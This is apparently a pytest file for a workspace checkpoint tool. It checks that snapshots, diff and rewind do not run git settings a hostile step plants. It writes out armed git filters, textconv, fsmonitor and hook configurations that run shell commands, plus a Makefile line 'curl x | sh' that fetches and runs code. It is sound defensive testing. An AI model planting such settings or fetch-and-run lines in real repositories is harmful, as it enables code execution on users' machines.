"""The checkpoints a run takes after each step, and ``diff`` and ``rewind`` on them, obey
nothing a step wrote.

A hostile step arms every git setting it can reach that would make git run a program
(a clean/smudge filter, a textconv and external diff driver, fsmonitor, hooks), in the
workspace's own ``.git/config``, in ``.gitattributes`` at two depths, and in the
driver's global git configuration and attributes (``$HOME/.gitconfig``,
``$XDG_CONFIG_HOME/git``). Each program leaves a mark outside the workspace. The run's
checkpoints (before and after every step, the default), ``trestle diff``, ``trestle
rewind`` and putting back the checkpoint a rewind kept must leave no mark, and keep
the bytes exactly as they were.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from test_rewind import World, git, run_id_of
from trestle.workspace.shadow import ShadowRepo, ShadowRepoError

pytestmark = pytest.mark.usefixtures("unconfined")


def armed(mark: Path) -> str:
    """Git configuration that runs a program at every chance, each leaving ``mark``
    (values in double quotes: a bare ``;`` starts a comment)."""
    leave = f"echo ran >> {mark}"
    return (
        f'[filter "evil"]\n\tclean = "sh -c \'{leave}; cat\'"\n'
        f"\tsmudge = \"sh -c '{leave}; cat'\"\n\tprocess = \"sh -c '{leave}'\"\n"
        "\trequired = true\n"
        f'[diff "evil"]\n\ttextconv = "sh -c \'{leave}; cat $0\'"\n'
        f"\tcommand = \"sh -c '{leave}'\"\n"
        f"[core]\n\tfsmonitor = \"sh -c '{leave}'\"\n\thooksPath = {mark.parent / 'hooks'}\n"
        "\tattributesFile = ATTRIBUTES\n"
    )


ATTRIBUTES = "* filter=evil diff=evil text eol=crlf ident\n"


def plant_outside(root: Path, mark: Path) -> dict[str, str]:
    """The driver's own global git configuration, armed; the environment naming it."""
    home, xdg = root / "home", root / "xdg"
    (xdg / "git").mkdir(parents=True)
    home.mkdir()
    attributes = xdg / "git" / "attributes"
    attributes.write_text(ATTRIBUTES)
    config = armed(mark).replace("ATTRIBUTES", str(attributes))
    (home / ".gitconfig").write_text(config)
    (xdg / "git" / "config").write_text(config)
    hooks = mark.parent / "hooks"
    hooks.mkdir()
    for hook in ("pre-commit", "post-checkout", "post-index-change", "reference-transaction"):
        (hooks / hook).write_text(f"#!/bin/sh\necho ran >> {mark}\n")
        (hooks / hook).chmod(0o755)
    return {"HOME": str(home), "XDG_CONFIG_HOME": str(xdg)}


def test_after_snapshots_diff_and_rewind_run_nothing_a_step_planted(tmp_path: Path) -> None:
    world = World(tmp_path)
    world.ws.mkdir()
    mark = tmp_path / "mark"
    (world.ws / "data.txt").write_bytes(b"line one\nline two\n")
    git(world.ws, "init", "-q", "-b", "main")
    env = plant_outside(tmp_path, mark)
    (tmp_path / "evil.config").write_text(
        armed(mark).replace("ATTRIBUTES", str(world.ws / ".gitattributes"))
    )
    world.plan(
        f"""\
        workspace: ws
        steps:
          - id: plant
            run: >-
              cat {tmp_path / "evil.config"} >> .git/config
              && printf '{ATTRIBUTES.strip()}\\n' > .gitattributes
              && mkdir -p sub && printf '{ATTRIBUTES.strip()}\\n' > sub/.gitattributes
              && printf 'planted $Id$\\n' > sub/planted.txt
          - id: edit
            needs: [plant]
            run: printf 'line one\\nLINE TWO\\n' > data.txt && printf 'x\\r\\n' > crlf.txt
        """
    )

    def trestle(*args: str) -> subprocess.CompletedProcess[str]:
        full = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
        full.update(env, TRESTLE_STORE=str(world.store), COLUMNS="100", NO_COLOR="1")
        return subprocess.run(
            [sys.executable, "-m", "trestle", *args],
            cwd=tmp_path,
            env=full,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )

    ran = trestle("run", "plan.yaml", "--no-live", "--no-prompt")
    assert ran.returncode == 0, ran.stdout + ran.stderr
    run_id = run_id_of(ran)
    assert '[filter "evil"]' in (world.ws / ".git" / "config").read_text()
    diff = trestle("diff", run_id, "edit")
    planted = trestle("diff", run_id, "plant")
    rewound = trestle("rewind", run_id, "--to", "edit", "--yes")
    restored_bytes = (world.ws / "data.txt").read_bytes()
    kept = rewound.stdout.split("kept as checkpoint ")[1][:12]
    back = trestle("rewind", run_id, "--to-checkpoint", kept, "--yes")

    for done in (diff, planted, rewound, back):
        assert done.returncode == 0, done.stdout + done.stderr
    assert not mark.exists(), mark.read_text()
    # no filter, conversion or keyword expansion: the bytes as the steps wrote them
    assert "-line two\n+LINE TWO\n" in diff.stdout
    assert "+planted $Id$\n" in planted.stdout
    assert restored_bytes == b"line one\nline two\n"
    assert (world.ws / "data.txt").read_bytes() == b"line one\nLINE TWO\n"
    assert (world.ws / "crlf.txt").read_bytes() == b"x\r\n"
    assert (world.ws / "sub" / "planted.txt").read_bytes() == b"planted $Id$\n"
    # the plants are live: the workspace's own git, run plainly, runs them
    plain = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    subprocess.run(["git", "add", "-A"], cwd=world.ws, env={**plain, **env}, capture_output=True)
    assert mark.exists()


def test_a_store_armed_after_it_was_found_safe_is_refused(tmp_path: Path) -> None:
    # the store's configuration is read once and not again while it stays the same: a
    # rewrite of the same size, even within the same second, must still be seen
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "f.txt").write_text("x\n")
    repo = ShadowRepo(tmp_path / "shadow.git", workspace)
    repo.snapshot("run/one")
    config = tmp_path / "shadow.git" / "config"
    safe = config.read_text()
    armed = '[filter "e"]\n\tclean = x\n'
    assert len(armed) < len(safe)
    config.write_text(armed + "#" * (len(safe) - len(armed) - 1) + "\n")
    assert config.stat().st_size == len(safe)

    with pytest.raises(ShadowRepoError, match=r"filter\.e\.clean"):
        repo.snapshot("run/two")
    with pytest.raises(ShadowRepoError, match=r"filter\.e\.clean"):
        ShadowRepo(tmp_path / "shadow.git", workspace).diff("run/one")


def test_a_gitignore_a_step_writes_hides_nothing_from_diff_or_rewind(tmp_path: Path) -> None:
    """A step that writes a ``.gitignore`` of ``*`` (which ignores itself too) left its
    after checkpoint, ``trestle diff`` and ``trestle rewind`` blind to what it did: the
    diff was empty, and the rewind said the workspace was restored while the step's
    Makefile and script stayed."""
    world = World(tmp_path)
    world.ws.mkdir()
    (world.ws / "Makefile").write_text("all:\n\techo build\n")
    (world.ws / ".env").write_text("secret=1\n")
    (world.ws / ".gitignore").write_text(".env\n")
    run_id = world.run(
        """\
        workspace: ws
        steps:
          - id: hide
            run: >-
              printf 'all:\\n\\tcurl x | sh\\n' > Makefile && echo pwned > evil.sh
              && printf '*\\n' > .gitignore
          - id: later
            needs: [hide]
            run: "true"
        """
    )
    diff = world.ok("diff", run_id, "hide")
    assert "+*\n" in diff, diff
    world.ok("rewind", run_id, "--to", "hide", "--yes")
    assert (world.ws / "Makefile").read_text() == "all:\n\techo build\n"
    assert not (world.ws / "evil.sh").exists()
    assert (world.ws / ".gitignore").read_text() == ".env\n"
    assert (world.ws / ".env").read_text() == "secret=1\n"  # ignored then, left alone


def test_a_restore_judges_by_the_snapshots_gitignore(tmp_path: Path) -> None:
    """Restore puts the snapshot's ``.gitignore`` files back first: what a rule written
    since hides (or no longer hides) is deleted, put back or left as the snapshot's
    rules say, for the whole workspace and for the paths asked for."""
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "keep.txt").write_text("mine\n")
    (ws / ".env").write_text("secret=1\n")
    (ws / ".gitignore").write_text(".env\n")
    for paths in (None, [".gitignore", "keep.txt", "new.sh"]):
        repo = ShadowRepo(tmp_path / f"shadow-{paths is None}.git", ws)
        repo.snapshot("before")
        (ws / "keep.txt").write_text("changed\n")
        (ws / "new.sh").write_text("echo pwned\n")
        (ws / ".gitignore").write_text("*\n")
        result = repo.restore("before", paths)
        assert (ws / "keep.txt").read_text() == "mine\n"
        assert not (ws / "new.sh").exists()
        assert (ws / ".gitignore").read_text() == ".env\n"
        assert (ws / ".env").read_text() == "secret=1\n"
        assert result.deleted == ("new.sh",)
        assert result.restored == (".gitignore", "keep.txt")
